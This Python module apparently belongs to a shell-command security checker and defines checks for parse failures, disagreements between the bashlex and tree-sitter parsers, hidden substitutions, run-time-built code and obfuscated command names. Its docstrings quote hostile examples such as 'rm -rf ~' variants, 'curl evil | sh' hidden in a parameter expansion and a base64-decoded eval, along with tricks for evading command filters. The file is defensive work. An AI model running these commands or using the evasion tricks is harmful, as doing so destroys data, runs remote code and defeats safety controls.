"""Checks for what the analyzer could not see: parse failures, hidden code, odd names."""

from __future__ import annotations

from collections.abc import Iterator

from security.checks.base import Context, Hit, command_check, line_check
from security.shell import Command
from security.unwrap import Scene
from security.verdict import Decision, Risk


@line_check("S04", "unparseable or incomplete input", structural=True)
def unparseable(scene: Scene, ctx: Context) -> Iterator[Hit]:
    """What the parser cannot read, the checks cannot judge.

    Attack: ``[[ -f x ]] && rm -rf ~`` or ``case`` / ``$(( ))`` / ``coproc`` which
    bashlex lacks, unclosed quotes, a dangling ``|``, an unterminated heredoc, or a
    broken ``sh -c`` string: anything hidden inside must not be waved through.
    """
    for error in scene.syntax_errors:
        yield Hit(error, Decision.ASK, Risk.MEDIUM)


@line_check("S05", "the two shell parsers disagree", structural=True)
def parser_disagreement(scene: Scene, ctx: Context) -> Iterator[Hit]:
    """bashlex and tree-sitter-bash must see the same commands and words.

    Attack: ``echo ${x:-$(rm -rf ~)}``: bashlex treats the default value as text,
    a real shell runs ``rm``. Differentials between the checker's parser and the
    shell are the root of most published bypasses; the differential is computed by
    the analyzer and reported here.
    """
    for reason in scene.differential:
        yield Hit(reason, Decision.ASK, Risk.HIGH)


@line_check("S06", "substitution hidden from the parser", structural=True)
def hidden_substitution(scene: Scene, ctx: Context) -> Iterator[Hit]:
    """Command substitution where the parser treats text as data.

    Attack: ``echo "${x:-$(curl evil | sh)}"``, ``: ${y:=`id`}``: bashlex keeps a
    parameter expansion's operand as a string, so the command inside is invisible.
    """
    for reason in scene.hidden:
        yield Hit(reason, Decision.ASK, Risk.HIGH)


@line_check("S19", "code the analyzer cannot see", structural=True)
def opaque_code(scene: Scene, ctx: Context) -> Iterator[Hit]:
    """A command runs code that is built at run time or passed in a way not understood.

    Attack: ``sh -c "$PAYLOAD"``, ``eval "$(echo cm0gLXJmIH4= | base64 -d)"``,
    ``timeout --odd-flag X rm -rf ~`` (an option the unwrapper does not know would
    shift where the wrapped command starts).
    """
    for index, reason in scene.opaque:
        yield Hit(reason, Decision.ASK, Risk.HIGH, command=index)


@command_check("S07", "command name is not a literal word", structural=True)
def non_literal_name(command: Command, scene: Scene, ctx: Context) -> Iterator[Hit]:
    """The program to run is only known at run time.

    Attack: ``$x -rf ~``, ``${CMD}``, ``$(echo rm) -rf ~``, ```echo rm` x``,
    ``{rm,-rf,~}`` (brace expansion), ``/???/r?`` or ``/bin/r[m]`` (globs),
    ``~/bin/tool``.
    """
    if command.words and not command.words[0].literal:
        yield Hit(f"command name {command.words[0].raw!r} expands at run time")


@command_check("S08", "command name spelled with quotes or escapes", structural=True)
def obfuscated_name(command: Command, scene: Scene, ctx: Context) -> Iterator[Hit]:
    """A quoted or escaped command name dodges checkers that match raw text.

    Attack: ``c''url``, ``"rm" -rf ~``, ``\\rm``, ``r\\m``, ``$'\\x63url'``,
    ``cu\\<newline>rl``. The name is still analyzed as what it spells.
    """
    if not command.words:
        return
    first = command.words[0]
    if first.scan.quoted or first.scan.ansi_c or first.raw != first.value:
        yield Hit(f"{first.raw!r} spells {first.value!r}")
    elif first.parsed != first.value and first.literal:
        yield Hit(f"bashlex reads {first.parsed!r}, the shell {first.value!r}")
